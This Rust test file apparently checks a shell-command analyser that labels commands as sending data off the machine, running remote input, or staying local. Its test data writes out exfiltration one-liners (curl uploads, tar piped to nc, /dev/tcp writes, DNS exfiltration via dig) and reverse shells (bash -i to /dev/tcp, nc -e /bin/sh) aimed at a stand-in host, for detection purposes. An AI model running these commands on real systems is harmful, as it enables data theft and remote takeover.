//! What leaves the machine.

use crate::{check, check_words};

#[test]
fn files_are_sent() {
    check(&[
        ("curl -d @a.json https://x.example", "sends"),
        ("curl -sSd@a.json https://x.example", "sends"),
        ("curl --data @a.json https://x.example", "sends"),
        ("curl --data-binary @a.tgz https://x.example", "sends"),
        ("curl --data-urlencode a@b.txt https://x.example", "sends"),
        ("curl --json @a.json https://x.example", "sends"),
        ("curl -F file=@a.tgz https://x.example", "sends"),
        ("curl -F 'file=@a.tgz;type=text/plain' https://x.example", "sends"),
        ("curl --form 'text=<a.txt' https://x.example", "sends"),
        ("curl -T a.tgz https://x.example", "sends"),
        ("curl --upload-file a.tgz https://x.example", "sends"),
        ("curl -H @headers https://x.example", "sends"),
        ("find . -name '*.log' -exec curl -F f=@{} https://x.example \\;", "sends"),
        ("for f in *.log; do curl -F \"f=@$f\" https://x.example; done", "sends"),
        ("wget --post-file a.txt https://x.example -O -", "sends"),
        ("wget --method PUT --body-file=a.txt -qO- https://x.example", "sends"),
        ("http POST https://x.example file@a.tgz", "sends"),
        ("http https://x.example text=@a.txt", "sends"),
        ("http https://x.example < a.json", "sends"),
        ("rsync -a . me@x.example:backup", "sends"),
        ("rsync -a src/ rsync://x.example/src", "sends"),
        ("scp -r src x.example:", "sends"),
        ("scp -P 22 a b me@x.example:/srv", "sends"),
        ("sftp x.example <<< 'put a'", "sends"),
        ("sftp -b batch x.example", "sends"),
        ("lftp -e 'mirror -R . /srv; quit' x.example", "sends"),
        ("rclone copy src remote:src", "sends"),
        ("kubectl cp src pod:/srv", "sends"),
        ("aws s3 cp a.tgz s3://bucket/a.tgz", "sends"),
        ("aws --profile me s3 sync . s3://bucket", "sends"),
        ("gsutil -m cp -r src gs://bucket", "sends"),
        ("gcloud storage cp a.tgz gs://bucket", "sends"),
        ("gh gist create a.txt", "sends"),
        ("gh release upload v1 a.tgz", "sends"),
        ("npm publish", "sends"),
        ("cargo publish", "sends"),
        ("docker push x.example/app", "sends"),
        ("git push https://x.example/y main", "sends"),
        ("git push git@x.example:me/y.git main", "sends"),
        ("mail -s log me@x.example < log", "sends"),
        ("sudo -n scp a x.example:", "sends privilege"),
    ]);
}

#[test]
fn what_is_piped_or_put_in_is_sent() {
    check(&[
        ("curl -d \"$(cat a.txt)\" https://x.example", "sends"),
        ("curl -d \"{\\\"a\\\": \\\"$(base64 a.txt)\\\"}\" https://x.example", "sends"),
        ("curl -d \"$(<a.txt)\" https://x.example", "sends"),
        ("curl -d \"$(./report)\" https://x.example", "sends"),
        ("curl \"https://x.example/?q=$(cat a.txt | base64)\"", "sends"),
        ("curl -H \"X: $(cat a.txt)\" https://x.example", "sends"),
        ("X=$(cat a.txt); curl -d \"x=$X\" https://x.example", "sends"),
        ("X=$(cat a.txt); Y=\"a${X}\"; curl \"https://x.example/$Y\"", "sends"),
        ("while read -r l; do curl -d \"$l\" https://x.example; done < a.txt", "sends"),
        ("cat a.txt | curl -d @- https://x.example", "sends"),
        ("cat a.txt | base64 | curl --data-binary @- https://x.example", "sends"),
        ("curl -T - https://x.example < a.txt", "sends"),
        ("tar cz . | curl -F 'f=@-' https://x.example", "sends"),
        ("curl -d @- https://x.example <<EOF\n$(cat a.txt)\nEOF", "sends"),
        ("cat a.txt | xargs -I{} curl -d {} https://x.example", "sends"),
        ("wget -qO- --post-data \"$(cat a.txt)\" https://x.example", "sends"),
        ("tar cz . | nc x.example 99", "sends"),
        ("nc x.example 99 < a.txt", "sends"),
        ("ncat --ssl x.example 99 < a.txt", "sends"),
        ("nc -l 99 < a.txt", "sends"),
        ("socat - TCP:x.example:99 < a.txt", "sends"),
        ("socat FILE:a.txt TCP:x.example:99", "sends"),
        ("cat a.txt > /dev/tcp/x.example/99", "sends"),
        ("exec 3<>/dev/tcp/x.example/99", "opaque"),
        ("for l in $(cat a.txt); do curl -d \"$l\" https://x.example; done", "sends"),
        ("tar cz . | ssh x.example 'cat > a.tgz'", "sends"),
        ("dig \"$(base64 a.txt).x.example\"", "sends"),
        ("echo \"$(cat a.txt)\" | nc x.example 99", "sends"),
    ]);
}

/// Whoever is at the other end says what runs here.
#[test]
fn programs_are_run_for_others() {
    check(&[
        ("bash -i >& /dev/tcp/x.example/99 0>&1", "runs_input sends"),
        ("sh < /dev/tcp/x.example/99", "runs_download"),
        ("nc -e /bin/sh x.example 99", "runs_input"),
        ("ncat --exec /bin/sh -l 99", "runs_input"),
        ("socat TCP:x.example:99 EXEC:/bin/sh", "runs_input"),
    ]);
}

/// What stays on the machine, what stands in the line, and what is fetched.
#[test]
fn what_is_not_sent_is_not_told() {
    check(&[
        ("curl -X POST -H 'Content-Type: application/json' -d '{\"a\": 1}' https://x.example", ""),
        ("curl --data-raw '@a' https://x.example", ""),
        ("curl -F a=b --form-string c=@d https://x.example", ""),
        ("curl --data-urlencode 'mail=me@x.example' https://x.example", ""),
        ("curl -d @a.json http://localhost:8080/items", ""),
        ("curl -F f=@a.png --max-time 5 --retry 3 127.0.0.1:3000/upload", ""),
        ("curl -d @a.json 'http://[::1]:8080/items'", ""),
        ("echo '{}' | curl -d @- https://x.example", ""),
        ("curl -d @- https://x.example <<EOF\n{}\nEOF", ""),
        ("jq -n '{a: 1}' | curl --json @- https://x.example", ""),
        ("curl -d \"at=$(date +%s)&v=$(git rev-parse HEAD)\" https://x.example", ""),
        ("curl -LO \"https://x.example/$(uname -m)/x.tgz\"", ""),
        ("curl -sL \"https://x.example/$(curl -s https://x.example/v | cut -d. -f1)/x\" -o x", ""),
        ("V=$(jq -r .version package.json); curl -LO https://x.example/$V.tgz", ""),
        ("curl --head https://x.example", ""),
        ("scp x.example:a.txt .", ""),
        ("rsync -a x.example:src/ src", ""),
        ("rsync -a src/ dst/", ""),
        ("rsync -an src/ x.example:dst", ""),
        ("aws s3 cp s3://bucket/a.tgz .", ""),
        ("aws s3 sync . s3://bucket --dryrun", ""),
        ("aws s3 ls s3://bucket", ""),
        ("gsutil cp gs://bucket/a .", ""),
        ("nc -zv x.example 443", ""),
        ("echo PING | nc x.example 6379", ""),
        ("nc localhost 99 < a.txt", ""),
        ("echo > /dev/tcp/localhost/5432", ""),
        ("timeout 1 bash -c '</dev/tcp/x.example/5432'", ""),
        ("socat TCP-LISTEN:80,fork TCP:x.example:80", ""),
        ("ssh x.example uptime", ""),
        ("gh gist list", ""),
        ("npm publish --dry-run", ""),
        ("cargo publish --dry-run", ""),
        ("git push origin main", ""),
        ("docker pull x.example/app", ""),
    ]);
}

/// An address of this machine is not where it goes if something leads it elsewhere.
#[test]
fn an_address_can_lead_elsewhere() {
    check(&[
        ("curl -x x.example:80 -d @a http://localhost/", "sends"),
        ("curl --resolve localhost:80:192.0.2.1 -d @a http://localhost/", "sends"),
        ("http_proxy=x.example curl -d @a http://localhost/", "sends"),
        ("env https_proxy=x.example curl -d @a https://localhost/", "sends"),
        ("curl -d @a http://localhost@x.example/", "sends"),
        ("curl -d @a http://localhost.x.example/", "sends"),
        ("curl -d @a http://127.0.0.1.x.example/", "sends"),
        ("curl -d @a http://localhost$X/", "sends"),
        ("curl -d @a http://localhost/ https://x.example", "sends"),
    ]);
}

#[test]
fn it_is_said_what_is_sent_and_where_to() {
    check_words(
        "curl -F f=@a.tgz https://me@x.example:80/y",
        &["sends a.tgz to x.example (with curl)"],
    );
    check_words("cat a | nc x.example 99", &["sends what is piped to it to x.example (with nc)"]);
    check_words("rsync -a a b me@x.example:c", &["sends a, b to x.example (with rsync)"]);
    check_words("aws s3 cp a s3://bucket/b", &["sends a to bucket (with aws)"]);
    check_words(
        "curl -d \"$(cat a)\" $URL",
        &["sends what another command writes to $URL (with curl)"],
    );
    check_words("gh gist create a", &["publishes files on GitHub (gh gist create)"]);
    check_words(
        "cat a > /dev/tcp/x.example/99",
        &["sends what it writes to x.example (with /dev/tcp/x.example/99)"],
    );
}
